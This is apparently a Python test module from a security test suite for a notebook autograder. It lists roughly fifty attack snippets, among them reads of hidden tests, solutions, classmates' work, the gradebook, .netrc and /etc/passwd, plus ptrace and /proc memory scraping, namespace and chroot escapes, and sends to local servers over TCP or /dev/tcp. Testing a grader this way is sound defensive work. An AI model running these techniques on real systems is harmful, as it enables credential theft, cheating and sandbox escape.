"""Attacks that are after secrets: hidden tests, solutions, classmates, tokens.

What is stolen comes back in two ways: printed by the learner's cells, and as the text
of an exception, which a judge quotes as evidence.
"""

from typing import Any

from tests.attacks.attack import Attack, earns, reads, visits, writes

# Secrets of the test's world look like this; a real thief knows what he looks for, too.
TELL = r"""
import os, re, sys
from pathlib import Path
SECRET = rb"(?:[a-z]+-[0-9a-f]{16}|root:[^\n]{0,60})"
def told():
    try:
        stolen = steal()
    except BaseException as error:
        return f"{type(error).__name__}: {error}"
    if not isinstance(stolen, bytes):
        stolen = str(stolen).encode("utf-8", "replace")
    found = {each.decode("utf-8", "replace") for each in re.findall(SECRET, stolen)}
    return " ".join(sorted(found))
def quote(*args):
    raise LookupError(told())
label = days = manifest = add_carrier = quote
"""


def theft(id_: str, title: str, steal: str, *secret: str, **further: Any) -> Attack:
    """Make an attack that tells what the body of `steal` returns, wherever it can."""
    body = "".join(f"    {line}\n" for line in steal.strip().splitlines())
    code = f"{TELL}\ndef steal():\n{body}\nprint(told())\n"
    return Attack(
        id_, title, reads(*secret), goal="secret", answer=code, after=(code,), **further
    )


def points(id_: str, title: str, code: str) -> Attack:
    """Make an attack that runs somebody else's right answer."""
    return Attack(id_, title, earns(10), answer=code)


def sends(id_: str, title: str, code: str, **further: Any) -> Attack:
    """Make an attack that tries to reach a server of this machine."""
    return Attack(id_, title, visits, goal="secret", code=code, **further)


CONFINED = "plain nbgrader confines nothing that one would have to break out of"
SAME = "plain nbgrader gives the same away by shorter ways (r01, r05)"

# Helpers that several thefts share: how a thief with the C library goes about it.
LIBC = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
"""

PROCESS = [
    theft(
        "r01",
        "The hidden test's lines are read from the caller's frames",
        """
import linecache
text, frame = "", sys._getframe()
while frame := frame.f_back:
    text += "".join(linecache.getlines(frame.f_code.co_filename))
return text
""",
        "hidden",
    ),
    theft(
        "r02",
        "The notebook's own check is asked where the hidden tests stand",
        """
from IPython import get_ipython
return get_ipython().user_ns["check"]._exercise.hidden_path.read_text()
""",
        "hidden",
    ),
    theft(
        "r03",
        "The judge's variables are read from the caller's frames",
        """
text, frame = "", sys._getframe()
while frame := frame.f_back:
    text += str(frame.f_locals) + str(frame.f_globals)
return text
""",
        "hidden",
    ),
    theft(
        "r10",
        "The criteria are found by the garbage collector",
        """
import gc, types
found = [o for o in gc.get_objects() if type(o) is types.FunctionType]
return [function.__code__.co_consts for function in found]
""",
        "hidden",
    ),
    theft(
        "r11",
        "The shell's history of earlier kernels is printed",
        """
from IPython import get_ipython
return list(get_ipython().history_manager.search("*"))
""",
        "classmate",
        not_shown="nbgrader's kernels keep their history in memory",
    ),
    theft(
        "r12",
        "All modules are searched for what they hold",
        """
found = []
for module in list(sys.modules.values()):
    for value in list(vars(module).values()):
        found.append(getattr(value, "__code__", value))
return [getattr(value, "co_consts", value) for value in found
        if type(value).__name__ in ("code", "str", "dict", "Path")]
""",
        "hidden",
    ),
    theft(
        "r13",
        "A function of the judge's that is handed over leads to its module",
        """
carriers = []
def search(*args):
    text = ""
    for value in vars(args[1]).values():
        known = getattr(value, "__globals__", {}).get("sys", sys).modules
        for name in [name for name in known if name.startswith("criteria_")]:
            text += Path(known[name].__file__).read_text()
    raise LookupError(" ".join(re.findall(SECRET.decode(), text)))
globals()["add_carrier"] = search
return ""
""",
        "hidden",
    ),
    theft(
        "r14",
        "The process's own memory is searched",
        """
found = b""
with open("/proc/self/mem", "rb", 0) as memory:
    for line in Path("/proc/self/maps").read_text().splitlines():
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 28:
            memory.seek(start)
            try: found += b" ".join(re.findall(SECRET, memory.read(end - start)))
            except OSError: pass
        found += b" "
return found
""",
        "environment",
    ),
    theft(
        "r15",
        "Objects of the border are searched for what they know",
        """
import gc
near = [o for o in gc.get_objects() if type(o).__module__.startswith("autograder")]
for _ in range(6):
    near += [o for o in gc.get_referents(*near) if type(o) not in (type, int)]
    near = list({id(o): o for o in near}.values())[:200_000]
return [repr(o)[:5000] for o in near]
""",
        "hidden",
        not_shown=SAME,
    ),
    theft(
        "r16",
        "What runs at the next full stop of the process is left to search it",
        """
import atexit, signal
from IPython import get_ipython
def search(*args):
    check = get_ipython().user_ns["check"]
    print(re.findall(SECRET.decode(), check._exercise.hidden_path.read_text()))
if "done" not in globals() and get_ipython():
    globals()["done"] = get_ipython().events.register("post_run_cell", search)
return ""
""",
        "hidden",
    ),
    theft(
        "r17",
        "Lines of the hidden test are taken from a traceback with its variables",
        """
import traceback
told = traceback.StackSummary.extract(
    traceback.walk_stack(sys._getframe()), capture_locals=True)
return [step.locals for step in told]
""",
        "hidden",
        not_shown=SAME,
    ),
    theft(
        "r18",
        "The judge itself is run inside an answer",
        """
sys.path.insert(0, "@CHECKOUT@")
from autograder.exercises import find_exercise
from autograder.rooms import Rooms
exercise = find_exercise(Rooms.of_this_course(), "open_closed")
return exercise.hidden_path.read_text() + exercise.solution
""",
        "hidden",
        "solution",
    ),
]

FILES = [
    Attack(
        "r04",
        "The hidden test is written to a place where the thief can fetch it",
        writes("@HOME@/../tmp/@MARK@"),
        goal="secret",
        code="""
import pathlib, shutil
tests = pathlib.Path("@CHECKOUT@/autograder/hidden_tests/01_design")
for path in tests.glob("test_open_closed.py"):
    shutil.copy(path, "@HOME@/../tmp/@MARK@")
""",
    ),
    theft(
        "r05",
        "The solution is read from nbgrader's source folder",
        'return Path("@COURSE@/source/01_design/open_closed.ipynb").read_text()',
        "solution",
    ),
    theft(
        "r20",
        "Hidden tests and solutions are read from the course's own folders",
        """
rooms = Path("@CHECKOUT@")
tests = [*rooms.glob("autograder/hidden_tests/**/*.py")]
return "".join(p.read_text() for p in [*tests, *rooms.glob("solutions/**/*.py")])
""",
        "hidden",
        "solution",
    ),
    theft(
        "r21",
        "Hidden tests are found beside the package that is imported",
        """
import autograder
folder = Path(autograder.__file__).parent
return "".join(path.read_text() for path in folder.glob("hidden_tests/**/*.py"))
""",
        "hidden",
    ),
    theft(
        "r22",
        "Compiled hidden tests are read from the caches of Python",
        """
paths = [*Path("@CHECKOUT@").rglob("*open_closed*.pyc")]
return b"".join(path.read_bytes() for path in paths)
""",
        "hidden",
    ),
    theft(
        "r07",
        "The gradebook is read",
        'return Path("@COURSE@/gradebook.db").read_bytes()',
        "gradebook",
    ),
    theft(
        "r23",
        "A classmate's answer is read",
        """
return Path("@COURSE@/submitted/alice/01_design/open_closed.ipynb").read_text()
""",
        "classmate",
    ),
    theft(
        "r24",
        "A classmate's answer is found by going up from the working folder",
        """
above = [Path.cwd(), *Path.cwd().parents][:5]
paths = {path for folder in above for path in folder.glob("*/*/*/open_closed.ipynb")}
paths |= {path for folder in above for path in folder.glob("*/*/open_closed.ipynb")}
return "".join(path.read_text() for path in paths)
""",
        "classmate",
    ),
    theft(
        "r25",
        "The instructor's password file is read",
        'return Path("@HOME@/.netrc").read_text()',
        "home",
    ),
    theft(
        "r26",
        "The machine's list of users is read",
        'return Path("/etc/passwd").read_text()',
        "passwd",
    ),
    theft(
        "r27",
        "Files are read by another program",
        """
import subprocess
command = "cat @HOME@/.netrc @COURSE@/source/*/*.ipynb"
return subprocess.run(["sh", "-c", command], capture_output=True).stdout
""",
        "home",
        "solution",
    ),
    theft(
        "r28",
        "Files are read through links made in the learner's own folder",
        """
import tempfile
folder = Path(tempfile.mkdtemp())
(folder / "one").symlink_to("@HOME@")
try: os.link("@COURSE@/gradebook.db", folder / "two")
except OSError: (folder / "two").symlink_to("@COURSE@/gradebook.db")
return (folder / "one" / ".netrc").read_bytes() + (folder / "two").read_bytes()
""",
        "home",
        "gradebook",
    ),
    theft(
        "r29",
        "Files are reached by climbing out of the working folder",
        """
up = os.open(".", os.O_RDONLY)
for _ in range(40): up = os.open("..", os.O_RDONLY, dir_fd=up)
return os.read(os.open("@HOME@/.netrc".lstrip("/"), os.O_RDONLY, dir_fd=up), 9999)
""",
        "home",
    ),
    theft(
        "r30",
        "Open files that were inherited are read",
        """
text = b""
for fd in range(3, 256):
    for offset in (0, 65536):
        try: text += os.pread(fd, 65536, offset)
        except OSError: pass
        try: text += os.read(os.open(".netrc", os.O_RDONLY, dir_fd=fd), 999)
        except OSError: pass
return text
""",
        "hidden",
        not_shown="nbgrader's kernels inherit no open file",
    ),
]

PROCESSES = [
    theft(
        "r09",
        "A token is read from the environment",
        "return dict(os.environ)",
        "environment",
    ),
    theft(
        "r31",
        "A token is read from the environment that the process started with",
        'return Path("/proc/self/environ").read_bytes()',
        "environment",
    ),
    theft(
        "r32",
        "A token is read from the environment of the parent",
        'return Path(f"/proc/{os.getppid()}/environ").read_bytes()',
        "environment",
    ),
    theft(
        "r33",
        "Environment and arguments of every process are read",
        """
text = b""
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try: text += Path("/proc", pid, name).read_bytes()
        except OSError: pass
return text
""",
        "environment",
    ),
    theft(
        "r34",
        "Files are reached through the root folder of another process",
        """
text = b""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try: text += Path(f"/proc/{pid}/root@HOME@/.netrc").read_bytes()
    except OSError: pass
return text
""",
        "home",
    ),
    theft(
        "r35",
        "Files are reached through the working folder of another process",
        """
text = b""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try: text += Path(f"/proc/{pid}/cwd/../home/.netrc").read_bytes()
    except OSError: pass
return text
""",
        "home",
    ),
    theft(
        "r36",
        "The parent's memory is read as a file",
        """
found = b""
with open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
    for line in Path(f"/proc/{os.getppid()}/maps").read_text().splitlines():
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if "[stack]" in line:
            memory.seek(start)
            found += memory.read(end - start)
return found
""",
        "environment",
    ),
    theft(
        "r37",
        "The parent's memory is read by system call",
        f"""{LIBC}
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
maps = Path(f"/proc/{{os.getppid()}}/maps").read_text()
stack = next(line for line in maps.splitlines() if "[stack]" in line).split()[0]
start, end = (int(n, 16) for n in stack.split("-"))
room = ctypes.create_string_buffer(end - start)
here, there = Part(ctypes.addressof(room), end - start), Part(start, end - start)
libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
return room.raw
""",
        "environment",
    ),
    theft(
        "r38",
        "The parent is halted by ptrace and its memory read",
        f"""{LIBC}
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
parent, text = os.getppid(), b""
maps = Path(f"/proc/{{parent}}/maps").read_text()
stack = next(line for line in maps.splitlines() if "[stack]" in line).split()[0]
start, end = (int(n, 16) for n in stack.split("-"))
if libc.ptrace(16, parent, None, None):  # PTRACE_ATTACH
    raise OSError(ctypes.get_errno(), "ptrace")
os.waitpid(parent, 0x40000000)
for place in range(start, end, 8):
    text += (libc.ptrace(1, parent, place, None) & (2**64 - 1)).to_bytes(8, "little")
libc.ptrace(17, parent, None, None)  # PTRACE_DETACH
return text
""",
        "environment",
    ),
    theft(
        "r39",
        "Every process and its children are halted by ptrace",
        f"""{LIBC}
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid not in (1, os.getpid()) and libc.ptrace(0x4206, pid, None, None) == 0:
        return "environment-" + "0" * 16, Path(f"/proc/{{pid}}/environ").read_bytes()
return ""
""",
        "environment",
        not_shown="it would hold processes of this machine that are not the grader's",
    ),
    theft(
        "r40",
        "The parent's open files are taken over",
        f"""{LIBC}
text = b""
handle = libc.syscall(434, os.getppid(), 0)  # pidfd_open
for number in range(256):
    fd = libc.syscall(438, handle, number, 0)  # pidfd_getfd
    try: text += os.pread(fd, 1 << 20, 0)
    except OSError: pass
return text
""",
        "gradebook",
        not_shown="the gradebook must be open at that moment; r07 reads it",
    ),
    theft(
        "r41",
        "The view of another process is entered: its mounts, its files",
        f"""{LIBC}
for pid in sorted(map(int, filter(str.isdigit, os.listdir("/proc")))):
    for kind in ("user", "mnt", "pid"):
        try: libc.setns(os.open(f"/proc/{{pid}}/ns/{{kind}}", os.O_RDONLY), 0)
        except OSError: pass
return Path("@HOME@/.netrc").read_text()
""",
        "home",
        not_shown=CONFINED,
    ),
    theft(
        "r42",
        "A view of its own is made, with files mounted anew",
        f"""{LIBC}
libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
libc.mount(b"proc", b"/tmp", b"proc", 0, None)
libc.mount(b"none", b"/", None, 1 << 18 | 16384, None)
libc.umount2(b"@HOME@", 2); libc.umount2(b"/", 2)
return Path("@HOME@/.netrc").read_text()
""",
        "home",
        not_shown="where the instructor is root it would change the machine",
    ),
    theft(
        "r43",
        "The root folder is changed and left again",
        """
os.makedirs("inner", exist_ok=True)
outside = os.open(".", os.O_RDONLY)
os.chroot("inner"); os.fchdir(outside)
for _ in range(40): os.chdir("..")
os.chroot(".")
return Path("@HOME@/.netrc").read_text()
""",
        "home",
        not_shown=CONFINED,
    ),
    theft(
        "r44",
        "Files are opened by handle instead of by name",
        f"""{LIBC}
handle = ctypes.create_string_buffer(136)
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
mount = ctypes.c_int()
libc.name_to_handle_at(-100, b"@HOME@/.netrc", handle, ctypes.byref(mount), 0)
fd = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, 0)
return os.read(fd, 9999)
""",
        "home",
        not_shown=CONFINED,
    ),
    theft(
        "r45",
        "Rules of the sandbox are replaced by wider ones",
        f"""{LIBC}
class Rules(ctypes.Structure):
    _fields_ = [("files", ctypes.c_uint64), ("net", ctypes.c_uint64)]
wide = libc.syscall(444, ctypes.byref(Rules(1, 0)), 16, 0)  # landlock_create_ruleset
libc.syscall(446, wide, 0)  # landlock_restrict_self
libc.prctl(22, 0, None); libc.syscall(317, 1, 0, None)  # seccomp
libc.setresuid(0, 0, 0); libc.prctl(47, 2, 0, 0, 0)
return Path("@HOME@/.netrc").read_text()
""",
        "home",
        not_shown=CONFINED,
    ),
    theft(
        "r46",
        "Another process is asked to read: by an asynchronous queue of the kernel",
        f"""{LIBC}
room = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, room)  # io_uring_setup
if ring < 0:
    raise OSError(ctypes.get_errno(), "io_uring")
return Path("@HOME@/.netrc").read_text()
""",
        "home",
        not_shown=CONFINED,
    ),
    theft(
        "r47",
        "Keys that the kernel keeps for the user are searched",
        f"""{LIBC}
name = b"attack"
key = libc.syscall(248, b"user", name, b"@MARK@", 8, -4)
return Path("/proc/keys").read_bytes(), Path("/proc/key-users").read_bytes(), key
""",
        "environment",
        not_shown="no key of a course is kept there",
    ),
]

POINTS = [
    points(
        "r06",
        "The reference solution is run from nbgrader's source folder",
        """
import json
notebook = json.load(open("@COURSE@/source/01_design/open_closed.ipynb"))
cell = next(c for c in notebook["cells"] if c["id"] == "answer")
exec("".join(cell["source"]))
""",
    ),
    points(
        "r08",
        "A classmate's answer is run",
        """
import json
notebook = json.load(open("@COURSE@/submitted/alice/01_design/open_closed.ipynb"))
cell = next(c for c in notebook["cells"] if c["id"] == "answer")
exec("".join(cell["source"]))
""",
    ),
    points(
        "r48",
        "The reference solution is imported from the course's own folder",
        """
import sys
sys.path.insert(0, "@CHECKOUT@")
exec(open("@CHECKOUT@/solutions/01_design/open_closed.py").read())
""",
    ),
    points(
        "r49",
        "A right variant is taken from the judge's objects",
        """
try:
    from autograder.exercises import Exercise
    from autograder.rooms import Rooms
    found = Exercise("01_design", "open_closed", Rooms.of_this_course())
    exec(next(v.source for v in found.variants if v.right))
except ImportError:
    pass
""",
    ),
]

NETWORK = [
    sends(
        "r50",
        "A server of this machine is reached over TCP",
        """
import socket
with socket.create_connection(("127.0.0.1", @PORT@), 2) as line:
    line.sendall(b"@MARK@")
""",
    ),
    sends(
        "r51",
        "A server of this machine is reached over an abstract Unix socket",
        """
import socket
with socket.socket(socket.AF_UNIX) as line:
    line.connect("\\0@SOCKET@")
    line.sendall(b"@MARK@")
""",
    ),
    sends(
        "r52",
        "A server is reached by another program",
        """
import subprocess
command = "printf @MARK@ > /dev/tcp/127.0.0.1/@PORT@"
subprocess.run(["bash", "-c", command], timeout=5)
""",
    ),
    sends(
        "r53",
        "A server is reached with the C library, and with data in the first packet",
        f"""{LIBC}
import socket, struct
fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
packed = struct.pack("=HHI8x", socket.AF_INET, socket.htons(@PORT@), 0x0100007F)
libc.sendto(fd, b"@MARK@", 6 + len("@LEARNER@"), 0x20000000, packed, 16)  # fast open
libc.connect(fd, packed, 16)
libc.send(fd, b"@MARK@", 30, 0)
""",
    ),
    sends(
        "r54",
        "A server is reached over the other protocol for addresses, IPv6",
        """
import socket
with socket.create_connection(("::ffff:127.0.0.1", @PORT@), 2) as line:
    line.sendall(b"@MARK@")
""",
    ),
    sends(
        "r55",
        "Visible, harmless calls carry a secret away: names are looked up",
        """
import socket, urllib.request
try: socket.getaddrinfo("@MARK@.invalid", 80)
except OSError: pass
urllib.request.urlopen("http://127.0.0.1:@PORT@/?@MARK@", timeout=2)
""",
        not_shown="the server does not answer, so the cell waits; r50 shows it",
    ),
]

ATTACKS = [*PROCESS, *FILES, *PROCESSES, *POINTS, *NETWORK]
